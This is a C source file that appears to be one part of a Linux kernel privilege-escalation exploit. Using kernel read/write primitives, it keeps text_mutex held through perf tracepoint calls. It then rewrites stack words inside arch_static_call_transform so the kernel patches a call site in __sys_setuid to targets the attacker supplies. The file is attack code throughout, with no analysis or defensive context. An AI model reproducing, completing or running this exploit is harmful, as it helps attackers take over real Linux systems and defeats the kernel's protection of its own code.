// SPDX-License-Identifier: GPL-2.0-only
#include <linux/perf_event.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "objects.h"
#include "static_calls.h"

#ifdef __x86_64__
#define FUNCTION	"arch_static_call_transform"
#define LENGTH		0x9c
#define CALLER		"__sys_setuid"
#define CALLER_SIZE	0x100
#define OLDER		"pcpu_hot"	/* Linux 6.12 has it */
#define LAST_ID		4000
#define TRIES		12
#define PAUSE		20000	/* microseconds */
#define PATIENCE	200	/* pauses */
#define TEXT_SIZE	(64UL << 20)

static volatile int *last_id;	/* the other process has the same */

int count_events(int id)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_TRACEPOINT, .size = sizeof(attr), .config = id,
		.exclude_kernel = 1, .exclude_hv = 1,
	};

	return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static void use_tracepoint(void)
{
	while (++*last_id < LAST_ID)
		if (count_events(*last_id) >= 0)
			return;
}

bool static_calls_start(void)
{
	last_id = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (last_id == MAP_FAILED)
		return false;
	held_start(use_tracepoint);
	return true;
}

bool is_kernel_text(uint64_t word)
{
	return word - (ksymbol("_text") ?: ksymbol("_stext")) < TEXT_SIZE;
}

uint64_t find_asking_call(void)
{
	unsigned char code[CALLER_SIZE];
	uint64_t caller = ksymbol(CALLER), target = ksymbol(ASKED);
	int32_t rel;
	int i;

	if (!caller || !target || kread(caller, code, sizeof(code)))
		return 0;
	for (i = 0; i + CALL_SIZE <= CALLER_SIZE; i++) {
		memcpy(&rel, code + i + 1, sizeof(rel));
		if (code[i] == CALL && caller + i + CALL_SIZE + rel == target)
			return caller + i;
	}
	return 0;
}

/*
 * What mutex_lock() pushes: what is called. Below it what its slow way pushes: the
 * mutex, whether by a jump, the site, the trampoline. In Linux 7.3 mutex_lock() pushes the
 * site, and its slow way the mutex, what is called, whether by a jump, the trampoline.
 */
static bool change_call(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	const struct patched_call *call = change->data;
	uint64_t mutex = ksymbol("text_mutex");
	bool older = ksymbol(OLDER);
	int i, called, jump, site;

	for (i = -HELD_BELOW; i < -5; i++) {
		called = older ? -2 : i + 1;
		jump = older ? i + 1 : i + 2;
		site = older ? i + 2 : -2;
		if (words[i] != mutex || words[jump] > 1 || !words[site] == !words[i + 3] ||
		    !is_kernel_text(words[site] | words[i + 3]) ||
		    (words[called] && !is_kernel_text(words[called])))
			continue;
		kwrite64(addr + called * 8, call->called);
		kwrite64(addr + jump * 8, 0);
		kwrite64(addr + site * 8, call->site);
		kwrite64(addr + (i + 3) * 8, call->trampoline);
		return true;
	}
	return false;
}

/* Who is refused is killed, maybe. */
bool patch_call(const struct patched_call *call)
{
	const struct held_change change = { FUNCTION, LENGTH, change_call, held_is_over, (void *)call };
	struct held_lock lock = held_mutex();
	int i, n;

	for (i = 0; i < TRIES && !call->is_done(); i++) {
		held_act(&lock, &change);
		for (n = 0; n < PATIENCE && !held_is_done(); n++)
			usleep(PAUSE);
		if (!held_is_done())
			break;
	}
	return call->is_done();
}
#endif
